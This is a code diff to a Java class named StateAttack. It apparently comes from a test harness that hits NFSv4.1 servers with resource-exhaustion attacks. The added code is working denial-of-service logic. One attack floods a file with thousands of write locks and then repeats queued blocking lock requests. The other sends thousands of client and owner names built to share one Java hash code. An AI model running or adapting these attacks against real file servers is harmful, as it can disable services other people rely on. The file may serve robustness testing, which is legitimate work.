@@ -51,22 +51,95 @@ enum StateAttack {
                 ByteBuffer opened = connection.answer(open(client, "owner"));
                 byte[] stateid = stateidOfOpen(opened);
                 for (int i = 0; i < 10_000; i++) {
-                    connection.answer(lock(client, stateid, i));
+                    connection.answer(lock(client, stateid, WRITE_LOCK, i, 2L * i, 1));
                 }
             }
         }
+    },
+    /** Hundreds of requests in line in one owner's range, in a file full of locks, and more of them again and again. */
+    LINES_IN_A_FULL_FILE {
+        @Override
+        void begin(Attack attack, Target target, Random random) throws Exception {
+            Connection connection = Connection.kept(attack, target, WAITER);
+            V41Client client = new V41Client(connection, "waiter " + random.nextLong());
+            client.open();
+            byte[] stateid = stateidOfOpen(connection.answer(open(client, "owner")));
+            int locks = 8_000;
+            connection.answer(lock(client, stateid, WRITE_LOCK, locks, FAR, FAR));
+            for (int i = 0; i < locks; i++) {
+                connection.answer(lock(client, stateid, WRITE_LOCK, i, 2L * i, 1));
+            }
+            for (int i = 0; i < 500; i++) {
+                ByteBuffer waits = connection.answer(lock(client, stateid, WRITE_LOCK_IN_LINE, i, FAR + i, FAR - i));
+                if (waits.getInt(waits.position()) != DENIED) {
+                    throw new AssertionError("LOCK: status " + waits.getInt(waits.position()));
+                }
+            }
+            attack.repeat(
+                    1,
+                    2,
+                    () -> connection.answer(lock(client, stateid, WRITE_LOCK_IN_LINE, random.nextInt(locks), FAR, 1)));
+        }
+    },
+    /** Thousands of names of clients and of open-owners that have one hash code, if no key is in it. */
+    NAMES_OF_ONE_HASH_CODE {
+        @Override
+        void begin(Attack attack, Target target, Random random) throws Exception {
+            Connection connection = Connection.kept(attack, target, NAMER);
+            V41Client client = new V41Client(connection, "namer " + random.nextLong());
+            client.open();
+            Step step = new Step(connection, client);
+            for (int i = 0; i < NAMES; i++) {
+                step.run();
+            }
+            attack.repeat(1, 2, step);
+        }
     };
+
+    /** One client and one open-owner more. */
+    private static final class Step implements Attack.Step {
+        private final Connection connection;
+        private final V41Client client;
+        private int number;
+
+        Step(Connection connection, V41Client client) {
+            this.connection = connection;
+            this.client = client;
+        }
+
+        @Override
+        public void run() {
+            number = (number + 1) % NAMES;
+            connection.answer(new V41Client(connection, colliding(number)).exchangeId());
+            connection.answer(open(client, colliding(number)));
+        }
+
+        /** The two blocks have one hash code by the sum that Java's arrays and strings use, and so have all rows. */
+        private static String colliding(int number) {
+            StringBuilder name = new StringBuilder();
+            for (int bit = 0; 1 << bit < NAMES; bit++) {
+                name.append((number >> bit & 1) == 0 ? "Aa" : "BB");
+            }
+            return name.toString();
+        }
+    }
 
     /** Each attack has its own address, because the server refuses further clients from the address of the first. */
     private static final int CROWD = 1;
 
     private static final int OPENER = 2;
     private static final int LOCKER = 3;
+    private static final int WAITER = 4;
+    private static final int NAMER = 5;
+    private static final int NAMES = 4096;
     private static final int PUTROOTFH = 24;
     private static final int LOOKUP = 15;
     private static final int OPEN = 18;
     private static final int LOCK = 12;
     private static final int WRITE_LOCK = 2;
+    private static final int WRITE_LOCK_IN_LINE = 4;
+    private static final long FAR = 1L << 40;
+    private static final int DENIED = 10_010;
     private static final int BOTH = 3;
     private static final int CLAIM_NULL = 0;
     private static final int REPLY = 1;
@@ -100,17 +173,17 @@ enum StateAttack {
         return stateid;
     }
 
-    private static NfsCall lock(V41Client client, byte[] stateid, int number) {
+    private static NfsCall lock(V41Client client, byte[] stateid, int type, int owner, long offset, long length) {
         ByteBuffer id = ByteBuffer.wrap(stateid);
         return client.sequenced(4)
                 .word(PUTROOTFH)
                 .word(LOOKUP)
                 .string("big")
                 .word(LOCK)
-                .word(WRITE_LOCK)
+                .word(type)
                 .word(0)
-                .hyper(number * 2L)
-                .hyper(1)
+                .hyper(offset)
+                .hyper(length)
                 .word(1)
                 .word(0)
                 .word(id.getInt())
@@ -119,7 +192,7 @@ enum StateAttack {
                 .word(id.getInt())
                 .word(0)
                 .hyper(0)
-                .string("lock owner " + number);
+                .string("lock owner " + owner);
     }
 
     /** A connection over TCP that waits for the answer to each call. */
@@ -127,7 +200,15 @@ enum StateAttack {
         private final Wire wire;
 
         Connection(Target target, int number) throws java.io.IOException {
-            wire = Wire.connect(target.tcp(), number);
+            this(Wire.connect(target.tcp(), number));
+        }
+
+        private Connection(Wire wire) {
+            this.wire = wire;
+        }
+
+        static Connection kept(Attack attack, Target target, int number) throws java.io.IOException {
+            return new Connection(attack.keep(Wire.connect(target.tcp(), number)));
         }
 
         @Override
